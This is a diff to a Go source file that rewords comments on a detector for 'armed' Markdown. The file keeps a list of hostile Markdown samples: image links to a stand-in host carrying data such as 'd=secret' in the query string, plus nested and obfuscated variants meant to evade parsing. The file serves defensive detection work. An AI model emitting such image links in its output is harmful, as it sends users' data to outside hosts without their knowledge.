@@ -9,8 +9,8 @@ import (
 	"github.com/yuin/goldmark/text"
 )
 
-// Armed returns what in a markdown document loads something, is HTML, or is a
-// link whose text is not its address.
+// Armed returns the parts of a Markdown document that load something, are HTML,
+// or are links whose text differs from their address.
 func Armed(markdown string) (found []string) {
 	source := []byte(markdown)
 	for _, reader := range []goldmark.Markdown{goldmark.New(), goldmark.New(goldmark.WithExtensions(extension.GFM))} {
@@ -29,7 +29,7 @@ func Armed(markdown string) (found []string) {
 	return found
 }
 
-// Markdown is markdown that would load, run or hide something.
+// Markdown lists documents that would load, execute or hide something.
 var Markdown = []string{
 	`![x](http://e.example/p.png?d=secret "t")`, "![x][r]\n\n[r]: http://e.example/?d=1", "![r]\n\n[r]: <http://e.example/a b> 'title'", "![[http://e.example/x.png]]",
 	`[![x](http://e.example/1)](http://e.example/2)`, `![a [b](http://e.example/3) c](http://e.example/4)`, "![x\ny](\nhttp://e.example/\n'title')", `!&#91;x](http://e.example)`,
